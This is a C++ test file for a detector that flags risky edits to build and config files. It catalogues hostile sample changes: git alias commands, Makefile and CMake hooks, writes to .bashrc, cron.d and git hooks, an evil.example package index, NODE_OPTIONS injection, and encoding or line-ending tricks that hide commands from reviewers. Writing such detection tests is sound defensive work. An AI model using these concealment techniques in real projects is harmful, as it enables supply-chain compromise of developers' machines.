// Cases in which a reader once saw something other than the tool that obeys the file.
#include <gtest/gtest.h>

#include "change/rules/certainty.h"
#include "change/rules/corpus.h"

namespace cloche::rules {
namespace {

using namespace std::string_view_literals;

std::vector<std::string> Alarmed(std::string_view path, std::string_view before,
                                 std::string_view after) {
  const std::string absolute = (path.starts_with('/') ? "" : "/h/u/app/") + std::string(path);
  for (const Trigger& trigger : FindTriggers({.path = absolute,
                                .before = Version{.content = before},
                                .after = Version{.content = after}},
                                             corpus::kRoots))
    if (trigger.severity == Severity::kAlarm && trigger.id != "unseen") return trigger.effective;
  return {};
}

struct Change {
  std::string_view path;
  std::string_view before;
  std::string_view after;
};

TEST(Readers, SeeWhatTheToolSees) {
  constexpr Change kChanges[] = {
      // git: comments do not continue, quotes are removed, comments may follow a value.
      {".git/config", "[core]\n# c \\\nbare = true\n", "[core]\n# c \\\nsshCommand = x\n"},
      {".git/config", "[alias]\nst = log\n", "[alias]\nst = \"!evil\" ; c\n"},
      {".git/config", "[alias]\nst = log\n", "[alias]\nst = \"!\"evil\n"},
      {".git/config", "[alias]\n", "[alias] st = !evil\n"},
      {".git/config", "[core]\nbare = a # c \\\n", "[core]\nbare = a # c \\\npager = x\n"},
      {".git/config", "[alias]\nst = !a\nst = log\n", "[alias]\nst = log\nst = !a\n"},
      {".git/config", "[alias]\nst = !a\nst = log\n", "[alias]\nst = !a\n"},
      {".git/config", "[core]\n", "\xef\xbb\xbf[alias]\nst = !a\n"},
      {".git/config", "[core]\n", "[core]\n\0[alias]\nst = !a\n"sv},
      {".git/config", "[core]\n", "[InClude]\npath = x\n"},
      // make: a comment continues unless the number of backslashes is even; a shell's does not.
      {"Makefile", "a:\n", "a:\n# c \\\\\n\tid\n"},
      {"Makefile", "a:\n", "a:\n\t# c \\\n\tid\n"},
      {"Makefile", "a:\n", "a:\n\t# $(shell id)\n"},
      {"Makefile", "a:\n", "define x\ndefine y\nendef\nid\nendef\n"},
      {"Makefile", "a:\n", "define x\n\tendef\n# id\nendef\n"},
      {"Makefile", "a:\n", "override export CC = id\n"},
      {"Makefile", "a:\n", "include\tx.mk\n"},
      {"Makefile", "x = C\na:\n\tid\n", "x = C\n$(x)C = id\na:\n\tid\n"},
      // A variable is a command wherever a recipe, or a variable that is one, expects a command.
      {"Makefile", "T = a\nx:\n\t$T b\n", "T = id\nx:\n\t$T b\n"},
      {"Makefile", "t = a\nx:\n\tA=1 $(t) b\n", "t = id\nx:\n\tA=1 $(t) b\n"},
      {"Makefile", "t = a\nx:\n\tenv $(t) b\n", "t = id\nx:\n\tenv $(t) b\n"},
      {"Makefile", "t = a\nx:\n\tif b; then $(t); fi\n", "t = id\nx:\n\tif b; then $(t); fi\n"},
      {"Makefile", "t = a\nx:\n\t$(Q)$(t) b\n", "t = id\nx:\n\t$(Q)$(t) b\n"},
      {"Makefile", "t = a\nx:\n\t$(Q) $(t) b\n", "t = id\nx:\n\t$(Q) $(t) b\n"},
      {"Makefile", "t = a\nx:\n\t@\"$(t)\" b\n", "t = id\nx:\n\t@\"$(t)\" b\n"},
      {"Makefile", "t = a\nx: ; $(t) b\n", "t = id\nx: ; $(t) b\n"},
      {"Makefile", "t = a\ny := $(shell $(t) b)\n", "t = id\ny := $(shell $(t) b)\n"},
      {"Makefile", "t = a\nc = $(t) -x\nx:\n\t$(c)\n", "t = id\nc = $(t) -x\nx:\n\t$(c)\n"},
      {"Makefile", "t = a\ndefine c\n$(t) b\nendef\n", "t = id\ndefine c\n$(t) b\nendef\n"},
      {"Makefile", "CFLAGS = -O2\n", "CFLAGS = -O2 -fplugin=./x.so\n"},
      {"Makefile", "LDFLAGS = -O2\n", "LDFLAGS = -O2 -Wl,-plugin,./x.so\n"},
      {"Makefile", "a:\n", "export GCC_EXEC_PREFIX = ./x\na:\n"},
      {"src/a.d", "a.o: a.c\n", "a.o: a.c\n\tid\n"},
      {"src/.deps/a.Po", "a.o: a.c\n", "a.o: a.c $(shell id)\n"},
      {".depend", "", "x := $(shell id)\n"},
      {"Makefile.local", "", "a:\n\tid\n"},
      {"justfile", "a:\n  id\n", "set shell := ['x']\na:\n  id\n"},
      // Python: encodings, multi-line strings, different letters that form the same word.
      {"sitecustomize.py", "x = 1\n", "# coding: utf-7\nx = 1\n"},
      {"sitecustomize.py", "# c\n", "# c\rid()\n"},
      {"sitecustomize.py", "x = '''\n'''\n", "x = '''\n# c\n'''\n"},
      {"sitecustomize.py", "if 0:\n  id()\n", "if 0:\n  pass\nid()\n"},
      {"sitecustomize.py", "if x:\n  id()\n", "if x:\n  1\nid()\n"},
      {"conftest.py", "x = 1\n", "x = 1\n\xef\xbd\x85xec('x')\n"},
      {"conftest.py", "# c\n", "# c\x0c\nx = 1\rexec('x')\n"},
      {"a.pth", "lib\n", "lib\rimport x\n"},
      {"a.pth", "\xef\xbb\xbfimport x\n", "import x\n"},
      {"a.pth", "lib\n", "lib\x0cimport x\n"},
      // A literal is not just data if a command takes it.
      {"setup.py", "import setuptools\nrun([\n  'make',\n])\n",
       "import setuptools\nrun([\n  'evil',\n])\n"},
      {"setup.py", "setup(\n  scripts=[\n    'a',\n  ],\n)\n",
       "setup(\n  scripts=[\n    'a',\n    'b',\n  ],\n)\n"},
      {".gitattributes", "[attr]x filter=y\n", "[attr]x filter=y\n* x\n"},
      // JavaScript, Rust, Groovy: multi-line strings and comments.
      {".pnpmfile.cjs", "/*\n*/\n", "/*\n// */ id()\n"},
      {".pnpmfile.cjs", "x = `\n`\n", "x = `\n// c ${id()}\n`\n"},
      {".pnpmfile.cjs", "// c\n", "// c\xe2\x80\xa8id()\n"},
      {".pnpmfile.cjs", "// c\n", "// c\rid()\n"},
      {"build.rs", "f(\"\n\");\n", "f(\"\n// c\n\");\n"},
      {"Jenkinsfile", "sh '''\n'''\n", "sh '''\n//tmp/x\n'''\n"},
      {"Jenkinsfile", "a = 'b'\n", "a = \"${id()}\"\n"},
      {"vite.config.js", "a\n", "\\u0065val(x)\n"},
      // Shells: continued lines, here-documents, a byte order mark before the first '#'.
      {"/h/u/.bashrc", "a \\\nb\n", "a \\\n\nb\n"},
      {"/h/u/.bashrc", "a \\ \nb\n", "a \\\nb\n"},
      {"/h/u/.bashrc", "cc - <<E\nE\n", "cc - <<E\n#include \"x\"\nE\n"},
      {"/h/u/.bashrc", "a\\\n", "a\\\n#b; id\n"},
      {"/h/u/.bashrc", "# c\n", "\xef\xbb\xbf# c; id\n"},
      {"/h/u/.bashrc", "a \\\r\nb\r\n", "a \\\nb\n"},
      {"/etc/sudoers", "# a\n", "#includedir /tmp\n"},
      {"/etc/apt/apt.conf.d/1", "// a\n", "#include \"/tmp/x\";\n"},
      {"/h/u/.emacs", "1\n", "#1=(shell-command \"id\")\n"},
      // Dockerfile: directives look like comments, comments do not continue.
      {"Dockerfile", "FROM a\n", "# syntax=evil/frontend\nFROM a\n"},
      {"Dockerfile", "FROM a\n", "# escape=`\nFROM a\n"},
      {"Dockerfile", "FROM a\n", "FROM a\n# c \\\nRUN id\n"},
      {"Dockerfile", "FROM a\nRUN <<E\nE\n", "FROM a\nRUN <<E\nenv X=1 id\nE\n"},
      {"Dockerfile", "FROM a\n", "FROM a\nCOPY --from=evil/x / /\n"},
      {"Dockerfile", "FROM a\nLABEL x=y \\\n  z=w\n", "FROM a\nLABEL x=y \\\\\nRUN id\n"},
      // YAML
      {".github/workflows/a.yml", "jobs:\n  a: 1\n", "jobs:\n  a: 1 # c\r  run: id\n"},
      {".github/workflows/a.yml", "x: &c make\njobs:\n  run: *c\n",
       "x: &c evil\njobs:\n  run: *c\n"},
      {".github/workflows/a.yml", "x: &c\n  name: y\njobs:\n  a:\n    <<: *c\n",
       "x: &c\n  run: y\njobs:\n  a:\n    <<: *c\n"},
      {".github/workflows/a.yml", "jobs:\n  run: |\n    a\n    b\n", "jobs:\n  run: |\n    b\n"},
      {".github/workflows/a.yml", "jobs:\n  run: >\n    a\n    # b\n    c\n",
       "jobs:\n  run: >\n    a\n    c\n"},
      {".github/workflows/a.yml", "on:\n  push:\n", "on:\n  pull_request_target:\n"},
      {".github/workflows/a.yml", "a: \"\n  b\"\n", "a: \"\n  b\"\njobs: {run: id}\n"},
      {".github/workflows/a.yml", "a: 1\n", "? jobs\n: {run: id}\n"},
      {".github/workflows/a.yml", "a: 1\n", "a: 1\n---\njobs:\n  run: id\n"},
      {".github/workflows/a.yml", "a: 1\n", "%YAML 1.1\n---\na: 1\n"},
      // JSON: a comment that the tool refuses, the last of two keys, a dot in a name.
      {"package.json", R"({"scripts": {"a": "id"} /* c */})", R"({"scripts": {"a": "id"}})"},
      {"package.json", R"({"scripts": {"a": "x", "a": "y"}})",
       R"({"scripts": {"a": "y", "a": "x"}})"},
      {"package.json", R"({"scripts.a": "x"})", R"({"scripts": {"a": "x"}})"},
      // TOML, INI, properties, .env, XML
      {"pyproject.toml", "a = '''\n[project.scripts]\nx = 'y'\n'''\n",
       "a = '''\n'''\n[project.scripts]\nx = 'y'\n"},
      {".env", "PORT=1\n", "[x]\nNODE_OPTIONS=--require ./x\n"},
      {".env", "PORT=1\n", "# c \\\nNODE_OPTIONS=x\n"},
      {".env", "PORT=1\n", "export\tNODE_OPTIONS=x\n"},
      {".npmrc", "a=b\n", "\"script-sh\\u0065ll\" = x\n"},
      {".npmrc", "a=b\n", "; c\rscript-shell=x\n"},
      {"venv/pyvenv.cfg", "home = /usr/bin\n", "[x]\nhome = /tmp\n"},
      {"setup.cfg", "[options.entry_points]\n[metadata]\n",
       "[DEFAULT]\nconsole_scripts = x\n[options.entry_points]\n"},
      {"setup.cfg", "[metadata]\nname = x\n  [options.entry_points]\n",
       "[metadata]\nname = x\n[options.entry_points]\nconsole_scripts = x\n"},
      {"gradle.properties", "a=1\n", "org.gradle.jvmargs -javaagent:x.jar\n"},
      {"/h/u/.config/autostart/a.desktop", "[Desktop Entry]\n", "[Desktop Entry]\nExec[$e]=id\n"},
      {"pom.xml", "<project></project>",
       "<project><plugin><!--></x>--><artifactId>y</artifactId></plugin></project>"},
      {"pom.xml", "<project></project>",
       "<project><a x='>'><executable>y</executable></a></project>"},
      // CMake: quoted names, lists, brackets that start within a word.
      {"CMakeLists.txt", "set(A b)\n", "set(\"CMAKE_C_COMPILER_LAUNCHER\" id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "set([[CMAKE_C_COMPILER_LAUNCHER]] id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "string(APPEND CMAKE_C_COMPILER_LAUNCHER id)\n"},
      {"CMakeLists.txt", "add_custom_command(OUTPUT a COMMAND b DEPENDS c)\n",
       "add_custom_command(OUTPUT a COMMAND b DEPENDS c;COMMAND;id)\n"},
      // CMake: writes outside the build, checkers it starts, files of any name.
      {"CMakeLists.txt", "set(A b)\n", "file(WRITE $ENV{HOME}/.bashrc id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "file(APPEND ${X}/../../.profile id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "file(COPY x DESTINATION /etc/cron.d)\n"},
      {"CMakeLists.txt", "set(A b)\n", "file(CREATE_LINK x ${CMAKE_SOURCE_DIR}/.git/hooks)\n"},
      {"CMakeLists.txt", "set(A b)\n",
       "configure_file(a ${CMAKE_SOURCE_DIR}/.git/hooks/pre-commit)\n"},
      {"CMakeLists.txt", "set(A b)\n", "set(ENV{PATH} x)\n"},
      {"CMakeLists.txt", "set(A b)\n", "include(notes.txt)\n"},
      {"CMakeLists.txt", "set(A b)\n", "include(${X})\n"},
      {"CMakeLists.txt", "set(A b)\n", "set(CMAKE_CXX_CLANG_TIDY id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "set_target_properties(a PROPERTIES C_CPPCHECK id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "set(CMAKE_CXX_INCLUDE_WHAT_YOU_USE id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "set_property(TARGET a PROPERTY AUTOMOC_EXECUTABLE id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "set(CMAKE_C_LINK_EXECUTABLE id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "set(CMAKE_C_COMPILE_OBJECT id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "set(CMAKE_USER_MAKE_RULES_OVERRIDE x)\n"},
      {"CMakeLists.txt", "set(A b)\n",
       "set_target_properties(a PROPERTIES IMPORTED_LOCATION id)\n"},
      {"CMakeLists.txt", "set(A b)\n", "add_link_options(-Wl,-plugin,x.so)\n"},
      {"CMakeLists.txt", "set(A x[[ b)\n", "set(A x[[ b)\nexecute_process(COMMAND id)\n#]]\n"},
      // Package sources.
      {"requirements.txt", "a==1\n", "a==1\n--index-url https:/\\\n/evil.example\n"},
      {"requirements.txt", "a==1\n", "a==1\n# c \\\n--index-url https://evil.example\n"},
      {"requirements.txt", "a==1\n", "# \x1c--index-url https://evil.example\na==1\n"},
      {"go.mod", "module a\n", "module a\nreplace b =>\t../c\n"},
      {"pnpm-lock.yaml", "a: 1\n", "resolution: {tarball: \"https:\\/\\/evil.example\"}\n"},
  };
  for (const auto& [path, before, after] : kChanges)
    EXPECT_FALSE(Alarmed(path, before, after).empty()) << path << "\n" << before << "--\n" << after;
}

TEST(Readers, LeaveEverydayEditsAlone) {
  constexpr Change kChanges[] = {
      {".git/config", "[branch \"main\"]\nremote = origin\n",
       "# why\n[branch \"main\"]\n\tremote = \"origin\" ; c\n[user]\nname = A\n"},
      {"Makefile", "# a\nS = a.c\nall:\n\tcc x\n",
       "# b \\\n  c\nS = a.c \\\n  b.c\nall:\n\t# d\n\tcc x\n"},
      {"Makefile", "S = a.c\nCFLAGS = -O1\nx: $(S)\n\t$(Q)$(CC) $(CFLAGS) -o x $(S)\n",
       "S = a.c b.c\nCFLAGS = -O2 -Wall\nx: $(S)\n\t$(Q)$(CC) $(CFLAGS) -o x $(S)\n"},
      {"src/a.d", "a.o: a.c\n", "a.o: a.c b.h \\\n  c.h\n\nb.h:\n"},
      {"source/a.d", "module a;\nint x;\n", "module a;\nimport std;\n\tint x = 1;\n"},
      {"Makefile", "obj-y = a.o\n", "obj-y = a.o\nobj-$(CONFIG_B) += b.o\n"},
      {"sitecustomize.py", "\"\"\"Doc.\"\"\"\nx = f'{1}'  # c\n",
       "# c\n\"\"\"Doc.\"\"\"\n\nx = f'{1}'  # c\n"},
      {"setup.py", "# -*- coding: utf-8 -*-\nsetup(\n    version='1',\n)\n",
       "# -*- coding: utf-8 -*-\n# c\nsetup(\n    version='2',\n)\n"},
      {"setup.py",
       "setup(\n  packages=find_packages(\n    where='a',\n  ),\n  extras_require={\n    'b': [\n  "
       "  ],\n  },\n)\n",
       "setup(\n  packages=find_packages(\n    where='c',\n  ),\n  extras_require={\n    'b': [\n  "
       "    'd>=1',\n    ],\n  },\n)\n"},
      {".pnpmfile.cjs", "a('b')\n", "// say 'c'\na('b')\n"},
      {"/h/u/.bashrc", "alias a=\"b\"\nx=$(y)\nif z; then\n  w 'v'\nfi\n",
       "alias a=\"b\"\n# c\nx=$(y)\n\nif z; then\n  # don't\n  w 'v'\nfi\n"},
      {"Dockerfile", "FROM a:1\nRUN b \\\n  c\n",
       "# c\nFROM a:2\nRUN b \\\n  # d\n  c\nLABEL e=f\n"},
      {".github/workflows/a.yml",
       "name: a\non: [push]\njobs:\n  b:\n    steps:\n      - uses: c/d@v1\n      - name: 'e: f'\n"
       "        run: |\n          make\n          # g\n          make test\n        env: {H: 1}\n",
       "name: A\n\non:\n  - push\njobs:\n  b:\n    timeout-minutes: 5 # i\n    steps:\n"
       "      - uses: c/d@v2\n      - name: \"e: f\"\n        run: |\n          make\n"
       "          # h\n          make test\n        env: {H: 2}\n"},
      {"compose.yaml", "x-a: &a\n  restart: no\nservices:\n  b:\n    <<: *a\n    image: c:1\n",
       "x-a: &a\n  restart: always\nservices:\n  b:\n    <<: *a\n    image: c:2\n"},
      {".vscode/settings.json", "{\n  // a\n  \"editor.tabSize\": 2,\n}",
       "{\n  // b\n  \"editor.tabSize\": 4,\n}"},
      {"pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\n  \"b>=1\", # c\n]\n",
       "[project]\nname = \"a\"\ndependencies = [\n  \"b>=2\",\n  \"d\",\n]\n"},
      {"setup.cfg", "[metadata]\nname = a\nclassifiers =\n  b\n",
       "[metadata]\nname = a\nclassifiers =\n  b\n  c :: d\n"},
      {".env", "# a\nPORT=1\n", "# b\nPORT=\"2\"\nNAME='c d'\n"},
      {"CMakeLists.txt", "set(A b)\n",
       "include(GNUInstallDirs)\ninclude(cmake/x.cmake)\ninclude(${CMAKE_CURRENT_LIST_DIR}/"
       "y.cmake)\n"
       "configure_file(a.h.in ${CMAKE_CURRENT_BINARY_DIR}/a.h)\nfile(READ VERSION v)\n"
       "file(GLOB s ../*.c)\nfile(WRITE ${CMAKE_BINARY_DIR}/x y)\n"},
      {"CMakeLists.txt", "if(CMAKE_C_COMPILER_ID STREQUAL GNU)\nendif()\n",
       "if(CMAKE_C_COMPILER_ID STREQUAL Clang)\nset(A \"b;c\")\nendif()\n"},
      {"requirements.txt", "a==1 \\\n    --hash=sha256:0\n", "# b\na==2 \\\n    --hash=sha256:1\n"},
      {"pom.xml", "<project><!-- a --><version>1</version></project>",
       "<?xml version=\"1.0\"?>\n<project>\n<version>2</version></project>"},
      {"x.mk", "S = a\n\f\nT = b\n", "S = a\n\f\nT = c\n"},
  };
  for (const auto& [path, before, after] : kChanges) {
    const auto alarmed = Alarmed(path, before, after);
    EXPECT_TRUE(alarmed.empty()) << path << ": " << alarmed.front() << "\n" << after;
  }
}

TEST(Readers, SayWhyTheyAreUncertain) {
  EXPECT_EQ(Alarmed("Makefile", "a:\n", "a:\n# b\rc\n").at(0),
            "could not be read with certainty: a carriage return within a line in line 2");
  EXPECT_EQ(Alarmed("conftest.py", "1\n", "# coding=cp037\n1\n").at(0),
            "could not be read with certainty: the encoding cp037");
  EXPECT_EQ(Alarmed("package.json", "{}", "\xff\xfe{\0}\0"sv).at(0),
            "could not be read with certainty: UTF-16 or UTF-32");
  // The old state is uncertain, too.
  EXPECT_FALSE(Alarmed("Makefile", "a:\n# b\r\tid\n", "a:\n# b\n\tid\n").empty());
}

TEST(Readers, NulBytesDoNotHideAText) {
  const auto unseen = [](std::string_view before, std::string_view after) {
    return !FindTriggers({.path = "/h/u/app/a.c",
                          .before = Version{.content = before},
                          .after = Version{.content = after}},
                         corpus::kRoots)
                .empty();
  };
  EXPECT_TRUE(unseen("int a;\n", "int a;\0\n"sv));
  EXPECT_TRUE(unseen("", "int a;\0 // \xe2\x80\xae\n"sv));
  EXPECT_FALSE(unseen("", "\0\0\0\0\0\0\0\0\0\xe2\x80\xae"sv));
  EXPECT_FALSE(unseen("a\0b"sv, "a\0c"sv));
}

TEST(Certainty, EveryToolSeesTheSameLines) {
  EXPECT_EQ(DoubtAbout(""), "");
  EXPECT_EQ(DoubtAbout("a\r\nb\tc\n\f\nd\n\f"), "");
  EXPECT_EQ(DoubtAbout("\xef\xbb\xbf"
                       "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80\n"),
            "");
  for (const std::string_view text : {"a\rb"sv,
                                      "a\r"sv,
                                      "a\0b"sv,
                                      "a\fb"sv,
                                      "a\vb"sv,
                                      "\x1b[0m"sv,
                                      "\x7f"sv,
                                      "\xff\xfe"sv,
                                      "\xfe\xff"sv,
                                      "\xc2\x85"sv,
                                      "\xe2\x80\xa8"sv,
                                      "\xe2\x80\xa9"sv,
                                      "a\xef\xbb\xbf"sv,
                                      "\xe9"sv,
                                      "\xc0\xaf"sv,
                                      "\xed\xa0\x80"sv,
                                      "\xf4\x90\x80\x80"sv,
                                      "\xc3"sv,
                                      "\x1c"sv,
                                      "\x1a"sv})
    EXPECT_NE(DoubtAbout(text), "") << text;
  EXPECT_NE(DoubtAbout(std::string(kMaxSureLine + 2, 'a')), "");
}

}  // namespace
}  // namespace cloche::rules
